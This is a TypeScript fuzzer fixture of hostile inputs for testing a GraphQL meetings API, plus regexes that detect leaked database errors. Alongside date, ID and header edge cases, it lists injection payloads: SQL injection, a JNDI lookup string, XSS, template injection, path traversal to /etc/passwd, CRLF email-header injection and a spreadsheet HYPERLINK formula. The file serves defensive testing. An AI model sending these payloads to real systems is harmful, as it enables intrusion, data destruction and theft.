import { randomUUID } from 'node:crypto';
import { Rng } from './rng';

/**
 * The hostile values the fuzzer draws from, by kind. Each list is what a real
 * client (or attacker) could put in a JSON body; the GraphQL type decides which
 * list a leaf draws from, the field name (date, time zone, email, id) narrows it.
 */

const HUGE = 100_000;

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '   padded   ',
  'a'.repeat(HUGE),
  'å'.repeat(HUGE / 2),
  '😀'.repeat(HUGE / 4),
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '👩‍👩‍👧‍👦🏳️‍🌈🇸🇪',
  'Z\u0351\u0352\u0357\u0358\u035c\u035d\u035e\u035f\u0360\u0361'.repeat(50),
  'e\u0301',
  'a\u0000b',
  '\u0000',
  '\u0001\u0002\u0007\u0008\u001b[31m\u001f\u007f',
  'line\r\nBcc: evil@example.test',
  '\t\v\f',
  '\uD800',
  '\uDFFF',
  'x\uD83Dy',
  '\uFEFF',
  '\uFFFF',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '0x1F',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '{}',
  '[]',
  "'",
  '"',
  '\\',
  "'; DROP TABLE person;--",
  "' OR '1'='1",
  '$1',
  '%s%n%x',
  '${jndi:ldap://x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '=HYPERLINK("http://evil")',
];

export const HOSTILE_INTS: readonly unknown[] = [0, -1, 1, -2147483648, 2147483647, 2147483648, -2147483649, Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER, 1e20, 1.5, -0.5, '1', 'NaN', '', null, true];

export const HOSTILE_FLOATS: readonly unknown[] = [0, -0, -1, 1, 0.5, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER, 1e20, 'NaN', 'Infinity', '0.5', null, false];

export const HOSTILE_DATES: readonly string[] = [
  '2024-02-30',
  '2023-02-29',
  '2027-02-30',
  '2027-04-31',
  '2027-02-29',
  '2027-03-01T10:00:00Z',
  '2027-03-28T02:30',
  '2024-13-01',
  '2024-00-10',
  '0000-01-01',
  '0001-01-01',
  '9999-12-31',
  '10000-01-01',
  '-2024-01-01',
  '+002024-01-01',
  '2024-1-1',
  '2024/01/01',
  '01.01.2024',
  '2024-01-01T00:00:00Z',
  '2024-01-01 ',
  '2024-01-01\u0000',
  'today',
  '',
  '1970-01-01',
  '1900-01-01',
  '2100-12-31',
];

export const HOSTILE_DATE_TIMES: readonly string[] = [
  '2024-01-01T10:00:00Z',
  // Issue 16: an impossible day (was stored as 2 March), times without an offset (were read as UTC),
  // a bare date (was midnight UTC), the hours a Stockholm clock skips and passes twice in 2027.
  '2027-02-30T10:00:00Z',
  '2027-02-29T10:00',
  '2027-04-31T10:00:00+02:00',
  '2027-03-01T10:00',
  '2027-03-01T10:00:00',
  '2027-03-01',
  '2027-03-02',
  '2027-02-30T10:00',
  '2027-03-28T02:30',
  '2027-10-31T02:30',
  '2027-03-01T24:00:00Z',
  '2027-03-01T10:60:00Z',
  '2027-03-01T10:00:60Z',
  '2027-03-01 10:00:00Z',
  '2027-03-01T10:00:00.1234567891Z',
  '2027-03-01T10:00:00+18:01',
  '2024-01-01T25:00:00Z',
  '2024-03-31T02:30:00+01:00',
  '2024-10-27T02:30:00',
  '2024-01-01T10:00:00+25:00',
  '2024-01-01',
  '1969-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '0',
  '1700000000000',
  'not a date',
  '',
];

/**
 * Probes of the paths that decide who sits on a meeting's day (issue 16 follow-up:
 * invitations and "my substitute attends" follow the terms): the meeting's time and
 * the terms' first and last days. Each value must be refused with BAD_USER_INPUT,
 * leaving nothing written — an impossible day, an hour a Stockholm clock skips or
 * passes twice, a bare date where a DateTime is expected, a time where a date is.
 * test/e2e/fuzz-regressions.e2e-spec.ts sends every one; the fuzzer draws the same
 * values from the lists above.
 */
export const TERM_PROBES: readonly { operation: 'createMeeting' | 'appoint' | 'endAppointment'; field: string; value: string }[] = [
  { operation: 'createMeeting', field: 'startsAt', value: '2027-02-30T10:00:00Z' },
  { operation: 'createMeeting', field: 'startsAt', value: '2027-02-30T10:00' },
  { operation: 'createMeeting', field: 'startsAt', value: '2027-04-31T10:00:00+02:00' },
  { operation: 'createMeeting', field: 'startsAt', value: '2027-03-28T02:30' },
  { operation: 'createMeeting', field: 'startsAt', value: '2027-10-31T02:30' },
  { operation: 'createMeeting', field: 'startsAt', value: '2027-03-01' },
  { operation: 'createMeeting', field: 'endsAt', value: '2027-03-02' },
  { operation: 'appoint', field: 'startsOn', value: '2027-02-30' },
  { operation: 'appoint', field: 'startsOn', value: '2027-03-01T10:00:00Z' },
  { operation: 'appoint', field: 'endsOn', value: '2027-04-31' },
  { operation: 'appoint', field: 'endsOn', value: '2027-02-29' },
  { operation: 'endAppointment', field: 'endsOn', value: '2027-02-30' },
  { operation: 'endAppointment', field: 'endsOn', value: '2027-03-28T02:30' },
];

export const TIME_ZONES_VALID: readonly string[] = ['Europe/Stockholm', 'Europe/Copenhagen', 'UTC'];

export const HOSTILE_TIME_ZONES: readonly string[] = [
  'Europe/Stockholm',
  'UTC',
  'Etc/GMT+12',
  'Etc/GMT-14',
  'Pacific/Kiritimati',
  'Pacific/Chatham',
  'Asia/Kathmandu',
  'America/Argentina/ComodRivadavia',
  'Europe/Kyiv',
  'Europe/Kiev',
  'Antarctica/Troll',
  'EST5EDT',
  'Factory',
  'localtime',
  'posix/Europe/Stockholm',
  'right/UTC',
  'Mars/Olympus_Mons',
  'europe/stockholm',
  'Europe/Stockholm ',
  '+01:00',
  'GMT+1',
  'CET',
  '../../etc/passwd',
  'Europe/Stockholm\u0000',
  '',
];

export const MALFORMED_IDS: readonly string[] = [
  '',
  'not-a-uuid',
  '1',
  '0',
  '-1',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{6b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1d}',
  '6B1F7C1E-6A34-4C1B-9A43-2F3A0C9F2B1D',
  '6b1f7c1e6a344c1b9a432f3a0c9f2b1d',
  '6b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1',
  '6b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1dd',
  'g b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1d',
  "6b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1d' OR '1'='1",
  '6b1f7c1e-6a34-4c1b-9a43-2f3a0c9f2b1d\u0000',
  'x'.repeat(HUGE),
];

export const HOSTILE_EMAILS: readonly string[] = [
  'a@b',
  '@example.test',
  'no-at-sign',
  'x@example.test\r\nBcc: evil@example.test',
  '"quoted"@example.test',
  'ÅSA@exämple.test',
  `${'a'.repeat(300)}@example.test`,
  'a@[127.0.0.1]',
];

export function randomUuid(): string {
  return randomUUID();
}

/** Deterministic "uuid that exists nowhere" from the run's generator. */
export function unknownUuid(rng: Rng): string {
  const hex = Array.from({ length: 32 }, () => '0123456789abcdef'[rng.int(16)]).join('');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

/**
 * Accept-Language headers (issue 16, item 8): `*` and languages we lack picked Swedish
 * or Danish by accident; q-values, q=0, malformed and huge headers must still answer.
 */
export const HOSTILE_ACCEPT_LANGUAGES: readonly string[] = [
  '*',
  'fr',
  'fr-CH, fr;q=0.9, de;q=0.8, *;q=0.5',
  'da;q=0, en',
  'en;q=0.2, da;q=0.8',
  'sv;q=abc, da;q=2',
  'nb, no, nn',
  ';;;,,,q=',
  'x'.repeat(4000),
  Array.from({ length: 500 }, (_, i) => `l${i};q=0.${i % 10}`).join(','),
];

/** Refusals of /graphql before any operation runs (issue 16, item 8): each must answer in the one error shape. */
export const RAW_GRAPHQL_REQUESTS: readonly { name: string; method: 'GET' | 'POST'; contentType?: string; body?: string; query?: string; headers?: Record<string, string> }[] = [
  { name: 'malformed JSON', method: 'POST', contentType: 'application/json', body: '{"query": "{ __typename }"' },
  { name: 'JSON that is a string', method: 'POST', contentType: 'application/json', body: '"{ __typename }"' },
  { name: 'JSON null', method: 'POST', contentType: 'application/json', body: 'null' },
  { name: 'empty object', method: 'POST', contentType: 'application/json', body: '{}' },
  { name: 'empty query', method: 'POST', contentType: 'application/json', body: '{"query": ""}' },
  { name: 'query not a string', method: 'POST', contentType: 'application/json', body: '{"query": {"a": 1}}' },
  { name: 'variables as a string', method: 'POST', contentType: 'application/json', body: '{"query": "{ __typename }", "variables": "{}"}' },
  { name: 'text/plain (CSRF)', method: 'POST', contentType: 'text/plain', body: '{"query": "{ __typename }"}' },
  { name: 'form (CSRF)', method: 'POST', contentType: 'application/x-www-form-urlencoded', body: 'query=%7B__typename%7D' },
  { name: 'XML', method: 'POST', contentType: 'application/xml', body: '<q/>' },
  { name: 'no content type', method: 'POST', body: '{"query": "{ __typename }"}' },
  { name: 'batch', method: 'POST', contentType: 'application/json', body: '[{"query": "{ __typename }"}, {"query": "{ __typename }"}]' },
  { name: 'persisted query', method: 'POST', contentType: 'application/json', body: '{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "ab"}}}' },
  { name: 'unknown charset', method: 'POST', contentType: 'application/json; charset=ebcdic', body: '{"query": "{ __typename }"}' },
  { name: 'GET mutation', method: 'GET', query: 'query=mutation%7Blogout%7D', headers: { 'apollo-require-preflight': '1' } },
  { name: 'GET without preflight header (CSRF)', method: 'GET', query: 'query=%7B__typename%7D' },
  { name: 'GET with invalid variables', method: 'GET', query: 'query=%7B__typename%7D&variables=%7Bnope', headers: { 'apollo-require-preflight': '1' } },
];

/** Substrings that only a leaked Postgres error or stack trace would show; none of the values above contains one. */
export const LEAK_PATTERNS: readonly RegExp[] = [
  /\bat [\w$.<>]+ \(?[^\s()]+:\d+:\d+\)?/,
  /node_modules/,
  /QueryFailedError/,
  /EntityNotFound/,
  /violates (?:foreign key|unique|check|not-null|exclusion) constraint/i,
  /duplicate key value/i,
  /syntax error at or near/i,
  /invalid input syntax for type/i,
  /invalid byte sequence/i,
  /unterminated quoted string/i,
  /out of range for type/i,
  /relation "[^"]+" does not exist/i,
  /column "[^"]+" (?:of relation|does not exist)/i,
  /\bSELECT\b[\s\S]*\bFROM\b[\s\S]*\bWHERE\b/,
  /\bINSERT INTO\b/,
  /TypeError|ReferenceError|RangeError/,
  /Cannot read propert/,
];
